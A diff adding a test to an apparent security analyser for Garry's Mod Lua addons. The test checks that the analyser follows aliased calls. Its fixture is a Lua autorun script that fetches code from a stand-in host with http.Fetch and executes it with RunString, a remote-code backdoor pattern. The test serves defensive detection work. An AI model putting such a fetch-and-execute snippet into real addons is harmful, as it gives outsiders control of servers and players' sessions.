@@ -65,4 +65,18 @@ describe('analyzeAddon', () => {
     const run = analysis.calls.find((c) => c.api === 'RunString');
     expect(run?.ctx.some((f) => f.kind === 'guard')).toBe(true);
   });
+
+  it('follows a sink alias into a body that only names the alias', () => {
+    // The callback mentions neither RunString nor http: only the aliases bring it in.
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/server/sv_radio.lua':
+          'local run, get = RunString, http.Fetch\ntimer.Simple(5, function()\n  get("https://x.invalid/a.lua", function(body) run(body) end)\nend)',
+      }),
+      { intel },
+    );
+    const run = analysis.calls.find((c) => c.api === 'RunString');
+    expect(run?.line).toBe(3);
+    expect(run?.args[0]?.taint?.[0]?.kind).toBe('http');
+  });
 });
